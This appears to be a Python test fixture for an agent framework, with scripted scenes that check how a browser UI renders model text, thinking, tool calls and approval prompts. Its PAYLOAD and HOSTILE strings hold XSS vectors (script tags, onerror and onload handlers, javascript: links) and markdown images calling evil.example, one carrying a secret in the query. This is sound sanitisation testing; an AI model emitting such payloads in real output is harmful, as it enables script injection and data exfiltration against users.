"""An App for browser tests: its agents do what the first word of a message says, and can be asked again after a crash.

Everything a scene says is a function of what the model is shown, so that a server that was killed goes on where it stopped.
A test lets a waiting tool go on by making a file of the gate's name in `CAIRN_TEST_GATES`. With `CAIRN_TEST_TOKEN` set, that
token is asked for.
"""

from __future__ import annotations

import asyncio
import os
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from cairn import Agent, App, Context, ToolError, approval
from cairn.errors import ModelError
from cairn.framework.http.auth import Credentials, Grant, Identity
from cairn.harness.messages import AssistantMessage, Text, UserMessage
from cairn.harness.models.protocol import ModelRequest
from cairn.runtime import DurableObject, Fiber
from cairn.runtime.callables import callable
from cairn.runtime.request import Request, Response
from cairn.testing.scripted import Call, Fail, Reply, Say, ScriptedModel, Stall, by_turn

PAYLOAD = "<img src=x onerror=\"document.title='pwned'\"><script>document.title='pwned'</script>"

HOSTILE = f"""\
{PAYLOAD}

![secret](https://evil.example/?q=secret) ![inline](data:image/svg+xml,<svg onload=alert(1)>) [![nested](//evil.example/a)](https://evil.example)

[click](javascript:document.title='pwned') [data](data:text/html,<script>alert(1)</script>) <javascript:alert(1)>

<iframe src="https://evil.example"></iframe> <a href="https://evil.example" onclick="alert(1)">x</a>

<style>*{{display:none}}</style>

| <svg onload=alert(1)> | ![cell](https://evil.example/cell) |
|---|---|
| `{PAYLOAD}` | [^1] |

[^1]: ![note](https://evil.example/note)

```html
{PAYLOAD}
```

[ref]: https://evil.example/ref "title"
![by reference][ref]

The end of it.
"""

REPORT = """\
## What was found

The **second** check fails; `door.open()` returns before the lock is held. See [the notes](https://example.org/notes/2026).

1. Reproduced with one address
2. Reproduced with an address that has a plus sign and a rather long local part in it
   - only on the second login

| Address | Result | Time |
|---|---|---:|
| ada@example.org | accepted | 12 ms |
| a.very.long.local.part+with.a.tag@subdomain.example.org | refused | 1,240 ms |

```python
def normalised(address: str) -> str:
    return address.strip().lower().replace("+", "%2B")  # a line that is longer than a phone is wide
```

> Nothing else was changed.
"""

THOUGHT = "They want to know about the door. I should look at the log first, and then run the checks once more."

SCENES: dict[str, list[Reply]] = {
    "say": [Say("It is said.")],
    "stream": [Say(" ".join(f"word{number}" for number in range(60)) + ".", chunk=10, pause=0.03)],
    "count": [Say(" ".join(f"n{number}" for number in range(150)) + " end", chunk=7, pause=0.02)],
    "long": [Say("\n\n".join(f"Line {number} of a long answer." for number in range(60)))],
    "think": [Say("I thought about it.", thinking=THOUGHT)],
    "weather": [[Say("I look."), Call("weather", {"city": "Oslo"})], Say("It is fine in Oslo.")],
    "slowly": [Call("slowly", {}), Say("That took a while.")],
    "order": [
        [Say("I order it."), Call("pay", {"amount": 300, "note": PAYLOAD}), Call("weather", {"city": "Oslo"})],
        Say("That was the order."),
    ],
    "break": [[Say("I try."), Call("breaks", {"path": "/etc/door.conf", "mode": "strict"})], Say("It did not work.")],
    "report": [
        [
            Say("I look at the door.", thinking=THOUGHT),
            Call("weather", {"city": "Oslo"}),
            Call("breaks", {"path": "/etc/door.conf"}),
        ],
        Say(REPORT, chunk=24, pause=0.03),
    ],
    "fail": [Fail(ModelError("the provider refused the request: no such model", kind="bad_request"))],
    "stall": [Stall(after="I begin, and then ")],
    "hostile": [
        [Say(HOSTILE, thinking=HOSTILE), Call("weather", {"city": PAYLOAD}), Call("breaks", {"path": PAYLOAD})],
        Say(HOSTILE),
    ],
}


def script(request: ModelRequest) -> Reply:
    """The scene of the last message, at the step it has come to."""
    said = [number for number, message in enumerate(request.messages) if isinstance(message, UserMessage) and _command(message)]
    begin = said[-1]
    before = sum(_is_finished(message) for message in request.messages[:begin])
    replies: list[Reply] = ["" for _ in range(before)]
    return by_turn([*replies, *SCENES[_command(request.messages[begin])]])(request)


def _command(message: Any) -> str:
    text = "".join(block.text for block in message.content if isinstance(block, Text))
    word = text.split()[0] if text.split() else ""
    return word if word in SCENES else ""


def _is_finished(message: Any) -> bool:
    return isinstance(message, AssistantMessage) and not message.interrupted


assistant = Agent("assistant", description="Does what the first word of a message says.", model=ScriptedModel(script))
other = Agent("other", model=ScriptedModel(script))


@assistant.tool(repeat="safe")
async def weather(ctx: Context[Any], city: str) -> dict[str, Any]:
    """Look at the sky."""
    ctx.show("forecast", {"city": city, "days": [7, 9, 8]})
    return {"city": city, "celsius": 7, "note": PAYLOAD if city == PAYLOAD else "clear"}


@assistant.tool(repeat="safe")
async def slowly(ctx: Context[Any]) -> str:
    """Say how far it is, and wait at each step."""
    for step in ("first", "second"):
        ctx.progress(f"the {step} step of two")
        await _gate(step)
    return "both steps"


@assistant.tool(repeat="safe")
async def breaks(ctx: Context[Any], path: str, mode: str = "") -> str:
    """Fail."""
    raise ToolError(f"{path} cannot be read: permission denied (mode '{mode}'). Ask for access, or give another path.")


@assistant.tool(approval=approval(lambda arguments: f"{arguments['amount']} is more than 100 {arguments['note']}"))
async def pay(ctx: Context[Any], amount: int, note: str) -> str:
    """Pay, when somebody has said so."""
    return f"paid {amount}"


async def _gate(name: str) -> None:
    while not (Path(os.environ["CAIRN_TEST_GATES"]) / name).exists():  # noqa: ASYNC110 - another process makes it
        await asyncio.sleep(0.02)


def holder_of_the_token(credentials: Credentials) -> Identity | None:
    """Somebody who may do everything, if the token is the right one."""
    given = credentials.headers.get("authorization", "")
    return Identity("tester", grants=frozenset(Grant)) if given == f"Bearer {os.environ['CAIRN_TEST_TOKEN']}" else None


coder = Agent(
    "coder",
    model=ScriptedModel(by_turn([Call("run_program", {"code": "await transfer(amount=300)"}), "It is paid."])),
    codemode=True,
)


@coder.tool(approval=approval(lambda arguments: "much money"))
def transfer(ctx: Context[Any], amount: int) -> str:
    """Pay somebody."""
    return f"paid {amount}"


@dataclass
class Errand:
    done: str = ""


class Errands(DurableObject[Errand]):
    """Asks before it does something, and for a colour."""

    kind = "errands"

    async def on_request(self, request: Request) -> Response:
        await self.start_fiber(request.path[1:])
        return Response.text("It has begun.")

    async def send(self, fiber: Fiber) -> None:
        answer = await fiber.ask("send the parcel", {"to": "Oslo", "note": PAYLOAD}, approval=True)
        async with self.transaction() as state:
            state.done = f"{answer.approved} {answer.reason}"

    async def paint(self, fiber: Fiber) -> None:
        answer = await fiber.ask("which colour?", "Red, or blue?")
        async with self.transaction() as state:
            state.done = str(answer.value())

    @callable(read_only=True)
    async def look(self) -> str:
        return self.state.done


auth = holder_of_the_token if "CAIRN_TEST_TOKEN" in os.environ else None
app = App(agents=[assistant, other, coder], objects=[Errands], console=True, auth=auth)
